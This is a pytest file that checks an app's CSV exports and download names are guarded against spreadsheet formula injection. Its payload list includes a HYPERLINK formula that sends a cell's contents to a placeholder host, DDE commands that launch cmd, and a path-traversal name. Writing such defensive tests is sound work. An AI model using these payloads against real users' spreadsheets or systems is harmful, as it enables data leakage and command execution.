"""Every CSV the app hands out is spreadsheet-safe, and so is every download name (issue 15, row 7).

The payloads are the shapes spreadsheets run as formulas: a hyperlink that phones home, an
``@`` function, plain arithmetic, a DDE command, and a leading tab or carriage return.
"""

from __future__ import annotations

import csv
import io

import pytest

from frontier_atlas.data.csvsafe import frame_csv, safe_file_name, spreadsheet_safe, unguard, write_csv
from frontier_atlas.domain.access import local_actor
from frontier_atlas.events import ImportStore, guess_mapping, import_events, read_header

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=cmd|' /C notepad'!A1",
    "\t=1+2",
    "\r=1+2",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _is_live(cell: str) -> bool:
    """Whether a spreadsheet would evaluate this cell (a number such as -12.5 is just a number)."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and spreadsheet_safe(cell) != cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_is_guarded_and_comes_back_unchanged(payload):
    guarded = spreadsheet_safe(payload)
    assert guarded == "'" + payload
    assert unguard(guarded) == payload
    assert spreadsheet_safe(guarded) == guarded  # guarding twice changes nothing


def test_numbers_and_plain_text_are_left_alone():
    for cell in ("-12.5", "42", "-7", "Tovuz", "'quoted already", ""):
        assert spreadsheet_safe(cell) == cell


def test_write_csv_guards_header_and_cells_of_sequences_and_mappings():
    text = write_csv(["=head", "b"], [["=1+1", None], {"=head": "@x", "b": float("nan")}])
    rows = _cells(text)
    assert rows == [["'=head", "b"], ["'=1+1", ""], ["'@x", ""]]


def _import_with_payloads(tmp_path, file_name: str) -> tuple[ImportStore, str]:
    lines = ["event_date,latitude,longitude,location,notes"]
    for k, payload in enumerate(PAYLOADS):
        # no position: every row is rejected, so every payload lands in the rows not read
        lines.append(f'2024-05-{k + 10},,45.1,"{payload.replace(chr(34), chr(34) * 2)}",n')
    lines.append("2024-05-30,40.1,45.1,Agdam,fine")
    data = ("\n".join(lines) + "\n").encode()
    store = ImportStore(tmp_path / "imports")
    info, result = import_events(data, file_name, guess_mapping(read_header(data, file_name)), store,
                                 set_name="=formula(1)", by=local_actor())
    assert result.rejected == len(PAYLOADS) and info.rows == 1
    return store, info.id


def test_the_rows_not_read_download_is_spreadsheet_safe(tmp_path):
    store, set_id = _import_with_payloads(tmp_path, "=formula(1).csv")
    rows = _cells(store.issues_csv(set_id).decode())
    header, body = rows[0], rows[1:]
    assert "raw:location" in header
    live = [cell for row in body for cell in row if _is_live(cell)]
    assert live == [], f"cells a spreadsheet would run: {live}"
    # the payloads are all there, guarded, and the file name too
    column = [row[header.index("raw:location")] for row in body]
    assert sorted(unguard(c) for c in column) == sorted(PAYLOADS)
    assert {row[header.index("file")] for row in body} == {"'=formula(1).csv"}


def test_a_listing_stored_unguarded_is_guarded_on_the_way_out(tmp_path):
    store, set_id = _import_with_payloads(tmp_path, "plain.csv")
    stored = store.path(set_id).with_name("issues.csv")
    stored.write_text("file,row,reason\nplain.csv,2,=HYPERLINK(\"x\")\n", encoding="utf-8")  # as old versions wrote
    stored.with_name("issues.guarded").unlink()  # old versions left no mark
    assert _cells(store.issues_csv(set_id).decode())[1] == ["plain.csv", "2", "'=HYPERLINK(\"x\")"]


def test_frame_csv_matches_write_csv():
    import pandas as pd

    frame = pd.DataFrame({"a": ["=x", "y"], "n": [1, 2]})
    assert frame_csv(frame) == write_csv(["a", "n"], [["=x", 1], ["y", 2]])


@pytest.mark.parametrize("name", ["=formula(1)", "+1+1", "@SUM(A1)", "-cmd", "../../etc/passwd", "\t=x", "   "])
def test_download_names_never_look_like_formulas_or_paths(name):
    file_name = safe_file_name(name, ".csv")
    assert file_name.endswith(".csv")
    assert file_name[0].isalnum()
    assert "/" not in file_name and "\\" not in file_name and ".." not in file_name
    assert set(file_name) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-")


def test_a_set_named_like_a_formula_downloads_under_a_readable_safe_name():
    assert safe_file_name("=formula(1)-rows-not-read", ".csv") == "formula-1-rows-not-read.csv"
    assert safe_file_name("Karabakh 2020", ".csv") == "Karabakh-2020.csv"
    assert safe_file_name("", ".csv", fallback="set1") == "set1.csv"
